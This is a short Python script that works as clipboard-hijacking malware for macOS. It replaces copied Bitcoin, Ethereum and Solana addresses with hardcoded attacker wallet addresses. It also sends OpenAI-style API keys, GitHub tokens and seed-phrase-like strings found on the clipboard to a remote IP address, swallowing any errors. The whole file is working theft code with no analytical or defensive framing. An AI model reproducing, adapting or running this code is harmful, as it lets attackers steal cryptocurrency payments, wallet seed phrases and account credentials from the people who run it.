import re
import subprocess
import time
import urllib.parse
import urllib.request

BTC = re.compile(r"^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,59}$")
ETH = re.compile(r"^0x[a-fA-F0-9]{40}$")
SOL = re.compile(r"^[1-9A-HJ-NP-Za-km-z]{32,44}$")
MINE = {
    "btc": "bc1qm3x7d9k2f8w0p5r6t4y1u9i3o7a2s5d8f6g4h1",
    "eth": "0x4B7e1F9c2D3a5E6b8C0d1F2a3B4c5D6e7F8a9B0c",
    "sol": "7xKXtg2CW87d97TXJSDpbD5jBkheTqA83TZRuJosgAsU",
}
HIST = []


def paste():
    return subprocess.run(["pbpaste"], capture_output=True, text=True).stdout.strip()


def copy(s):
    subprocess.run(["pbcopy"], input=s, text=True)


while True:
    c = paste()
    if c and (not HIST or HIST[-1] != c):
        HIST.append(c)
        kind = "btc" if BTC.match(c) else "eth" if ETH.match(c) else "sol" if SOL.match(c) else None
        if kind and c != MINE[kind]:
            copy(MINE[kind])
        if re.search(r"(sk-[A-Za-z0-9]{20,}|ghp_[A-Za-z0-9]{36}|(\b\w+\b\s+){11,23}\b\w+\b$)", c):
            try:
                urllib.request.urlopen("http://192.0.2.33/c?" + urllib.parse.urlencode({"v": c}), timeout=5)
            except Exception:
                pass
    time.sleep(0.5)
